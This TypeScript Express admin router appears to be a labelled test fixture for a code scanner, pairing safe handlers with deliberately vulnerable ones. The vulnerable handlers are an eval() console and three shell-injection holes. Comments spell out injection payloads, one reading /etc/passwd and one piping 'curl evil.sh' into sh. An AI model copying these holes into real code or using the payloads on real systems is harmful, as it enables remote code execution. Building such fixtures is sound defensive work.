/**
 * /api/admin: operator tools (diagnostics, log search, worker control, settings).
 *
 * Ported from the old CommonJS admin panel; some helpers still load child_process with
 * require(), as they did there (the server is compiled to CommonJS).
 */
import { Router, type Request, type Response } from 'express';
import { execFile } from 'node:child_process';
import util from 'node:util';

const { exec, execSync } = require('child_process');
const execAsync = util.promisify(exec);
const execFileAsync = util.promisify(execFile);

export const adminRouter = Router();

const HOSTNAME = /^[a-z0-9.-]{1,253}$/i;
const WORKERS = new Set(['ingest', 'mailer', 'rollup']);

// VULNERABLE (TSB101): a "debug console" that evaluates whatever the operator (or anyone who
// gets past the auth middleware, or a CSRF'd browser) posts.
adminRouter.post('/console', (req: Request, res: Response) => {
  const result = eval(req.body.expression);
  res.json({ result: String(result) });
});

// SAFE: settings are data, parsed as JSON rather than evaluated.
adminRouter.post('/settings/import', (req: Request, res: Response) => {
  const settings = JSON.parse(String(req.body.settings)) as Record<string, unknown>;
  res.json({ imported: Object.keys(settings).length });
});

// VULNERABLE (TSB103): `?host=example.com;cat /etc/passwd` runs a second command.
adminRouter.get('/diagnostics/ping', (req: Request, res: Response) => {
  exec('ping -c 3 ' + req.query.host, (error: Error | null, stdout: string) => {
    if (error) return res.status(502).json({ error: error.message });
    return res.type('text/plain').send(stdout);
  });
});

// SAFE: execFile with an argument array and no shell; the host is validated too.
adminRouter.get('/diagnostics/dns', async (req: Request, res: Response) => {
  const host = String(req.query.host ?? '');
  if (!HOSTNAME.test(host)) return res.status(400).json({ error: 'invalid host' });
  const { stdout } = await execFileAsync('dig', ['+short', host]);
  return res.type('text/plain').send(stdout);
});

// VULNERABLE (TSB103): the search pattern is interpolated into a shell command run by execSync.
// A pattern of `"; curl evil.sh | sh; echo "` escapes the quotes.
adminRouter.post('/logs/search', (req: Request, res: Response) => {
  const output = execSync(`grep -i "${req.body.pattern}" /var/log/pulseboard/app.log | tail -n 200`, { encoding: 'utf8' });
  res.type('text/plain').send(output);
});

// SAFE: a constant command line has nothing for an attacker to inject into.
adminRouter.get('/disk', (_req: Request, res: Response) => {
  const output = execSync('df -h /var/lib/pulseboard', { encoding: 'utf8' });
  res.type('text/plain').send(output);
});

// VULNERABLE (TSB103): promisified exec; the worker name is not checked before it reaches the shell.
adminRouter.post('/workers/restart', async (req: Request, res: Response) => {
  const { stdout } = await execAsync(`systemctl restart pulseboard-worker@${req.body.worker}.service`);
  res.json({ ok: true, output: stdout });
});

// SAFE: the same operation with an allow-list and execFile.
adminRouter.post('/workers/status', async (req: Request, res: Response) => {
  const worker = String(req.body.worker);
  if (!WORKERS.has(worker)) return res.status(400).json({ error: 'unknown worker' });
  const { stdout } = await execFileAsync('systemctl', ['status', '--no-pager', `pulseboard-worker@${worker}.service`]);
  return res.json({ output: stdout });
});
